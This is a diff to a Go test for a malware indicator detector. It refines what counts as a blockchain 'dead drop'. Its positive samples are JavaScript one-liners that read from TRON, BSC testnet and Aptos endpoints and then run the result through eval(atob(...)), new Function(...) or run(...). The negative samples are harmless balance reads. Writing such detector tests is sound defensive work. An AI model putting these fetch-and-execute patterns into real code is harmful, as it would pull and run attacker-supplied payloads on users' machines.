@@ -36,15 +36,16 @@ func TestC2PortVariants(t *testing.T) {
 }
 
 // TestDeadDropVariants: TRON through Tronscan, the BSC testnet's eth_call
-// (EtherHiding) and Aptos testnet reads are dead drops.
+// (EtherHiding) and Aptos testnet reads whose result is decoded or run
+// are dead drops; the same reads whose result is only shown are not.
 func TestDeadDropVariants(t *testing.T) {
 	t.Parallel()
 	d := NewIOCDetector(BuiltinIOCs(), 1<<20)
 	for _, src := range []string{
-		"fetch('https://apilist.tronscanapi.com/api/transaction?address=' + a)",
-		"const p = 'https://data-seed-prebsc-1-s1.bnbchain.org:8545'; body = {method: 'eth_call'}",
-		"new ethers.JsonRpcProvider('https://bsc-testnet.publicnode.com'); const c = new ethers.Contract(a, abi, p)",
-		"fetch(`https://fullnode.testnet.aptoslabs.com/v1/accounts/${a}/transactions`)",
+		"fetch('https://apilist.tronscanapi.com/api/transaction?address=' + a).then(t => Buffer.from(t.raw_data.data, 'hex'))",
+		"const p = 'https://data-seed-prebsc-1-s1.bnbchain.org:8545'; body = {method: 'eth_call'}; run(Buffer.from(r.result.slice(130), 'hex').toString())",
+		"new ethers.JsonRpcProvider('https://bsc-testnet.publicnode.com'); const c = new ethers.Contract(a, abi, p); eval(atob(await c.get()))",
+		"fetch(`https://fullnode.testnet.aptoslabs.com/v1/accounts/${a}/transactions`).then(x => new Function(hexToString(x[0].payload))())",
 	} {
 		found := false
 		for _, f := range d.Detect(&File{Path: "a.js", Data: []byte(src)}) {
@@ -52,6 +53,16 @@ func TestDeadDropVariants(t *testing.T) {
 		}
 		if !found {
 			t.Errorf("no dead drop in %q", src)
+		}
+	}
+	for _, src := range []string{
+		"const p = 'https://bsc-dataseed.binance.org/'; body = {method: 'eth_call', params: [{to: usdt, data: sel + addr}]}; console.log(BigInt(r.data.result))",
+		"new ethers.JsonRpcProvider('https://bsc-testnet.publicnode.com'); const c = new ethers.Contract(a, abi, p); setBalance(await c.balanceOf(me))",
+	} {
+		for _, f := range d.Detect(&File{Path: "a.js", Data: []byte(src)}) {
+			if f.Rule == "BLOCKCHAIN-DEAD-DROP-FETCH" {
+				t.Errorf("dead drop reported for a dApp read: %q", src)
+			}
 		}
 	}
 }
